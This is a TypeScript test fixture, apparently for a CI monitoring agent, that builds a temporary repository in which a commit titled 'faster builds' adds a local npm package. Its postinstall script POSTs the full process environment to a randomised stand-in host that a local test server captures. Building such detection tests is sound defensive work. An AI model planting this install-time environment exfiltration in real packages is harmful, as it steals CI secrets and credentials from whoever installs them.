import { execFileSync, spawn } from "node:child_process";
import { randomBytes, randomInt } from "node:crypto";
import { once } from "node:events";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { text as readText } from "node:stream/consumers";

/** What the attack is called here: everything is drawn, so that nothing can know it beforehand. */
export interface Drawn {
  packageName: string;
  script: string;
  host: string;
  path: string;
  author: string;
  installStep: string;
  clockAheadMs: number;
}

/** A project with a package from a file, and a runner to build it on. */
export interface StolenJob {
  drawn: Drawn;
  clone: string;
  database: string;
  /** The commits: before, the one that brought the package, and one after it. */
  commits: { before: string; guilty: string; after: string };
  port: number;
  /** Requests that the server got. */
  requests: string[];
  logOf(runId: string): string;
  /** Runs the job at a commit, under the real agent. */
  run(runId: string, commit: string): Promise<void>;
  close(): Promise<void>;
}

const root = join(import.meta.dirname, "../..");
const agent = join(root, "packages/agent-linux/bin/straycall-agent.js");
const runner = join(import.meta.dirname, "imitated-runner.mjs");

const drawnName = (before: string) => `${before}${randomBytes(4).toString("hex")}`;

/**
 * @param kind how npm has the package: unpacked from a tarball, or linked from a folder of the repository
 */
export async function stolenJob(kind: "tarball" | "folder"): Promise<StolenJob> {
  const folder = mkdtempSync(join(tmpdir(), "straycall-stolen-"));
  const drawn: Drawn = {
    packageName: drawnName("lib-"),
    script: `${drawnName("setup-")}.js`,
    host: `${drawnName("h")}.example`,
    path: `/${drawnName("in-")}/${drawnName("of-")}`,
    author: drawnName("Author "),
    installStep: drawnName("__step_"),
    clockAheadMs: randomInt(-900_000, 900_000),
  };
  const requests: string[] = [];
  const { server, certificate } = await secureServer(
    folder,
    [drawn.host, "usual.example"],
    requests,
  );
  const { port } = server.address() as AddressInfo;
  const clone = join(folder, "shop");
  const commits = project(clone, folder, kind, drawn, port);
  const hosts = join(folder, "hosts");
  writeFileSync(hosts, `127.0.0.1 localhost\n127.81.0.1 usual.example\n127.81.0.2 ${drawn.host}\n`);
  const logOf = (runId: string) => join(folder, `${runId}.log`);

  return {
    drawn,
    clone,
    database: join(folder, "straycall.db"),
    commits,
    port,
    requests,
    logOf,
    async run(runId, commit) {
      const workspace = join(folder, `work-${runId}`, "shop");
      const temp = join(folder, `temp-${runId}`);
      for (const each of [workspace, temp]) mkdirSync(each, { recursive: true });
      const job = join(folder, `${runId}.json`);
      const curl = `curl --silent --cacert ${certificate} https://usual.example:${port}/status`;
      const steps = [
        {
          name: "__actions_checkout",
          action: "actions/checkout@v4",
          run: `git clone --quiet ${clone} ${workspace}\ngit -C ${workspace} checkout --quiet ${commit}`,
        },
        { name: drawn.installStep, run: `cd ${workspace}\nsh scripts/build.sh` },
        { name: "__run_2", run: `cd ${workspace}\n${curl}\nnode --eval 0` },
      ];
      const { clockAheadMs } = drawn;
      writeFileSync(job, JSON.stringify({ steps, temp, log: logOf(runId), clockAheadMs }));
      const inside = 'mount --bind "$0" /etc/hosts && exec "$@"';
      const options = [
        "--db",
        join(folder, "straycall.db"),
        "--learning-runs",
        "1",
        "--run-id",
        runId,
      ];
      const child = spawn(
        "unshare",
        [
          ...["--mount", "sh", "-c", inside, hosts],
          ...[process.execPath, agent, "run", "--quiet", ...options, "--"],
          ...[process.execPath, runner, job],
        ],
        {
          stdio: ["ignore", "ignore", "inherit"],
          env: {
            PATH: process.env.PATH,
            HOME: folder,
            CI: "true",
            GITHUB_ACTIONS: "true",
            GITHUB_REPOSITORY: "acme/shop",
            GITHUB_WORKFLOW: "CI",
            GITHUB_WORKFLOW_REF: "acme/shop/.github/workflows/ci.yml@refs/heads/main",
            GITHUB_JOB: "build",
            GITHUB_RUN_ID: runId,
            GITHUB_RUN_ATTEMPT: "1",
            GITHUB_SHA: commit,
            GITHUB_WORKSPACE: workspace,
            NODE_EXTRA_CA_CERTS: certificate,
            npm_config_update_notifier: "false",
          },
        },
      );
      const [status] = await once(child, "exit");
      if (status !== 0) {
        throw new Error(`the job ended with ${status}:\n${readFileSync(logOf(runId), "utf8")}`);
      }
    },
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
      rmSync(folder, { recursive: true, force: true });
    },
  };
}

async function secureServer(folder: string, names: readonly string[], requests: string[]) {
  const [key, certificate] = [join(folder, "key.pem"), join(folder, "cert.pem")];
  const make =
    "req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 -subj /CN=test";
  const named = ["-addext", `subjectAltName=${names.map((name) => `DNS:${name}`).join(",")}`];
  const files = ["-keyout", key, "-out", certificate];
  execFileSync("openssl", [...make.split(" "), ...named, ...files], { stdio: "ignore" });
  const server: Server = createServer(
    { key: readFileSync(key), cert: readFileSync(certificate) },
    async (request, response) => {
      await readText(request);
      requests.push(`${request.method} ${request.headers.host} ${request.url}`);
      response.end("ok\n");
    },
  );
  server.listen(0, "0.0.0.0");
  await once(server, "listening");
  return { server, certificate };
}

/** The repository: a build of three levels of scripts, and later a package whose install script sends the environment. */
function project(
  clone: string,
  folder: string,
  kind: "tarball" | "folder",
  { packageName, script, host, path, author }: Drawn,
  port: number,
): StolenJob["commits"] {
  const write = (name: string, text: string) => {
    mkdirSync(dirname(join(clone, name)), { recursive: true });
    writeFileSync(join(clone, name), text);
  };
  const git = (...args: string[]) =>
    execFileSync("git", ["-C", clone, "-c", "user.email=a@x.example", ...args], {
      encoding: "utf8",
      env: { ...process.env, GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1" },
    }).trim();
  const commit = (who: string, message: string) => {
    git("add", "--all");
    git("-c", `user.name=${who}`, "commit", "--quiet", "--message", message);
    return git("rev-parse", "HEAD");
  };
  const lock = () =>
    execFileSync(
      "npm",
      [
        "install",
        "--package-lock-only",
        "--ignore-scripts",
        "--offline",
        "--no-audit",
        "--no-fund",
      ],
      {
        cwd: clone,
        stdio: "ignore",
      },
    );
  const shop = { name: "shop", version: "1.0.0", private: true };

  mkdirSync(clone);
  git("init", "--quiet", "--initial-branch=main");
  write("package.json", JSON.stringify(shop));
  write(".gitignore", "node_modules\n");
  write("scripts/build.sh", "set -e\necho building\nsh scripts/install.sh\n");
  write(
    "scripts/install.sh",
    "set -e\nnpm ci --offline --no-audit --no-fund --foreground-scripts\n",
  );
  lock();
  const before = commit("Ann", "the shop");
  write("README.md", "# Shop\n");
  commit("Bob", "a readme");

  const source =
    kind === "tarball" ? join(folder, packageName) : join(clone, "packages", packageName);
  mkdirSync(source, { recursive: true });
  writeFileSync(
    join(source, "package.json"),
    JSON.stringify({
      name: packageName,
      version: "1.2.3",
      scripts: { postinstall: `node ${script}` },
    }),
  );
  writeFileSync(
    join(source, script),
    `const { request } = require("node:https");
const sent = request({ host: ${JSON.stringify(host)}, port: ${port}, path: ${JSON.stringify(path)}, method: "POST", agent: false });
console.log("sending to", ${JSON.stringify(host)});
sent.on("response", (answer) => { console.log("answered", answer.statusCode); answer.resume(); });
sent.end(JSON.stringify(process.env));
`,
  );
  let from = `packages/${packageName}`;
  if (kind === "tarball") {
    mkdirSync(join(clone, "vendor"));
    const packed = execFileSync(
      "npm",
      ["pack", "--silent", "--pack-destination", join(clone, "vendor")],
      {
        cwd: source,
        encoding: "utf8",
      },
    ).trim();
    from = `vendor/${packed}`;
  }
  write(
    "package.json",
    JSON.stringify({ ...shop, dependencies: { [packageName]: `file:${from}` } }),
  );
  lock();
  const guilty = commit(author, "faster builds");
  write("README.md", "# The shop\n");
  return { before, guilty, after: commit("Bob", "a better readme") };
}
